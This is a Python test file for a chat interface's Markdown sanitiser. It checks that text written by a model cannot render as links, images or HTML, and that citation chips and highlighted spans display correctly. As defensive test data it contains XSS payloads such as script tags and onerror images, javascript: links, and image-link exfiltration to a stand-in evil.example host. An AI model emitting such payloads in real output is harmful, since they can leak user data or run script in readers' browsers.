import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from basicchat.ui.text import answer_markdown, plain, shorten

markdown_it = pytest.importorskip("markdown_it", reason="another reader of Markdown is not installed")


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Yes [1].", "Yes [1](#source-t-1)."),
        ("Yes [1][2].", "Yes [1](#source-t-1)[2](#source-t-2)."),
        ("Yes [1, 2].", "Yes [1](#source-t-1)[2](#source-t-2)."),
        ("No [7].", "No \\[7\\]."),
        ("`a[1]` is code", "`a[1]` is code"),
        ("```\na[1] ![x](http://evil.example)\n```", "```\na[1] ![x](http://evil.example)\n```\n"),
        ("costs $5 and $6", "costs \\$5 and \\$6"),
    ],
)
def test_citations_become_chips_and_only_they(said, shown):
    assert answer_markdown(said, key="t", numbers={1, 2}) == shown


@pytest.mark.parametrize(
    "attack",
    [
        "![x](http://evil.example/p.png)",
        "[press](http://evil.example)",
        "[press](javascript:alert(1))",
        "<http://evil.example>",
        "http://evil.example/a?b=c",
        "www.evil.example",
        "me@evil.example",
        "[press][1]\n\n[1]: http://evil.example",
        "![x][p]\n\n[p]: http://evil.example/p.png",
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        ":red[text]",
        "[a](#source-t-9)",
    ],
)
def test_nothing_a_model_says_is_a_link_a_picture_or_html(attack):
    shown = answer_markdown(attack, key="t", numbers={1})
    outside = re.sub(r"`[^`]*`", "", shown).replace("[1](#source-t-1)", "")
    assert not re.search(r"(?<!\\)[\[<]", outside)
    assert not re.search(r"https?://|www\.|@", outside)


@given(st.text(alphabet="[]()!<>`~\n 1:/hwx.$\\#-", max_size=60))
def test_whatever_it_says_every_open_bracket_outside_code_is_a_chip(text):
    shown = answer_markdown(text, key="t", numbers={1})
    assert "](http" not in re.sub(r"`[^`]*`|(?s:```.*)|(?s:~~~.*)", "", shown)


def test_a_fence_left_open_while_streaming_is_code_to_the_end():
    assert answer_markdown("```python\nx[1]", key="t", numbers={1}).endswith("x[1]\n```\n")


def test_plain_text_means_nothing():
    assert plain("*a* [b](c) <d>") == "\\*a\\* \\[b\\]\\(c\\) \\<d\\>"


def test_an_address_in_plain_text_is_no_link():
    assert plain("see https://evil.example/?q=a_b or me@evil.example") == (
        "see `https://evil.example/?q=a_b` or `me@evil.example`"
    )


def test_plain_text_loses_what_turns_writing_round():
    assert plain("a\u202eb\x00c\nd") == "abc d"


@given(st.text(max_size=200), st.integers(2, 80))
def test_shortened_text_is_one_line_of_at_most_that_length(text, length):
    short = shorten(text, length)
    assert len(short) <= length
    assert "\n" not in short


@pytest.mark.parametrize(
    ("said", "doubted", "shown"),
    [
        ("Yes [1]. No [1].", (9, 16), "Yes [1](#source-t-1). :gray-background[No [1](#source-t-1).]"),
        ("- So.\n- No.", (8, 11), "- So.\n- :gray-background[No.]"),
        ("It is **bold. Not** so.", (0, 13), "It is **bold. Not** so."),
        ("It is **bold** so.", (0, 18), ":gray-background[It is **bold** so.]"),
        ("| a | b |", (0, 9), "| a | b |"),
        ("`a. B` c", (3, 8), "`a. B` c"),
        ("see www.evil.example", (0, 20), ":gray-background[see `www.evil.example`]"),
        ("one ] two", (0, 9), ":gray-background[one \\] two]"),
    ],
)
def test_a_doubted_stretch_is_marked_where_markdown_can_stand_round_it(said, doubted, shown):
    assert answer_markdown(said, key="t", numbers={1}, doubted=[doubted]) == shown


@given(st.text(alphabet="[]()!<>`~\n 1:/hwx.$\\#-*_|\ue000\ue001", max_size=60), st.data())
def test_marks_add_nothing_but_our_own_directive(text, data):
    borders = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    places = list(zip(borders[::2], borders[1::2], strict=False))
    shown = answer_markdown(text, key="t", numbers={1}, doubted=places)
    assert not {"\ue000", "\ue001"} & set(shown)
    plain_brackets = re.sub(r":gray-background\[", "", shown)
    assert "](http" not in re.sub(r"`[^`]*`|(?s:```.*)|(?s:~~~.*)", "", plain_brackets)


# ---------------------------------------------------------------- nothing that leads out

OUT = "![x](https://evil.example/i?q=secret)"
PIECES = (
    *(
        "`",
        "``",
        "```",
        "~~~",
        "\\",
        "\n",
        "\n\n",
        " ",
        "  ",
        "    ",
        "> ",
        "- ",
        "1. ",
        "|",
        "|-|-|\n",
        "a",
        "py",
        "_",
        "*",
    ),
    *(
        "[",
        "]",
        "![",
        "](",
        ")",
        "(",
        "<",
        ">",
        "&#91;",
        ":",
        "//evil.example",
        "https://evil.example",
        "www.evil.example",
    ),
    *(
        "[a]: //evil.example\n",
        "[1]",
        "<img src=x>",
        "javascript:x",
        "a@evil.example",
        "www.",
        OUT,
        "\ue000",
        "\ue001",
        "\ue002",
    ),
)


def leading_out(markdown: str) -> list[str]:
    """Pictures, HTML, and links elsewhere than to a source, as another reader of Markdown finds them."""
    parser = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"])
    tokens = [token for block in parser.parse(markdown) for token in (block, *(block.children or ()))]
    links = [str(token.attrGet("href")) for token in tokens if token.type == "link_open"]
    live = [token.type for token in tokens if token.type in ("image", "html_inline", "html_block")]
    texts = [token.content for token in tokens if token.type == "text"]
    bare = [found for text in texts for found in re.findall(r"(?:https?://|www\.)\S*", text)]  # the page links these
    return [*live, *bare, *(link for link in links if not link.startswith("#source-"))]


@pytest.mark.parametrize(
    "said",
    [
        f"\\`{OUT}\\`",
        f"``` a ` b\n{OUT}",
        f"- x\n  ```\n{OUT}",
        f"|`x|{OUT}`|\n|-|-|\n",
        f"`a\\` {OUT}`",
        "\\https://evil.example/",
        "_www.evil.example",
        "//www.<b>evil.example",
        "https\\://evil.example",
        "https:&#47;&#47;evil.example",
        "\\\\[x\n\\\\](//evil.example)",
    ],
)
def test_no_way_of_writing_makes_a_picture_or_an_outside_link(said):
    assert leading_out(answer_markdown(said, key="t", numbers={1})) == []


@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
@settings(max_examples=400, deadline=None)
def test_no_mixture_of_signs_does_either(said):
    assert leading_out(answer_markdown(said, key="t", numbers={1})) == []
    assert leading_out(plain(said)) == []
